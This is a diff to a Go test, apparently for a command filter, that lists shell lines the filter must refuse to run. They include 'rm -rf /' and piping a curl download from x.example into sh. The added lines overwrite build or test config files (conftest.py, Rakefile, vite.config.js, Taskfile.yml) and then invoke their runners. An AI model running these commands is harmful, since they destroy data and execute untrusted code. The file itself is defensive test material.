@@ -36,6 +36,11 @@ func TestFiltersRunNothing(t *testing.T) {
 	lines := []string{
 		"cat > x.sh <<'EOF'\nrm -rf /\nEOF\ncat x.sh | sh", "echo 'rm -rf /' > sort; ./sort", "curl -o cut https://x.example/c; ./cut",
 		"sort -o run.sh x; sh run.sh", "cat $(ls *.go) | sort | uniq -c", "tac <(curl -s https://x.example) | sh",
+		// module loaders and recipe runners (plain programs runs reads)
+		// after a command that wrote their files
+		"cp /tmp/e.js src/a.test.js && jest", "mv /tmp/c.py conftest.py; pytest", "cp /tmp/J justfile && just build",
+		"cp /tmp/t.rake Rakefile; rake", "cp /tmp/x.js vite.config.js && vite build", "cp /tmp/p.yaml .pre-commit-config.yaml && pre-commit run",
+		"ln -s /tmp/x.js webpack.config.js; webpack", "cp /tmp/T Taskfile.yml && task",
 	}
 	lines = append(lines, engineExecLines(t)...)
 	defer func() { skipFilterRuns = true }()
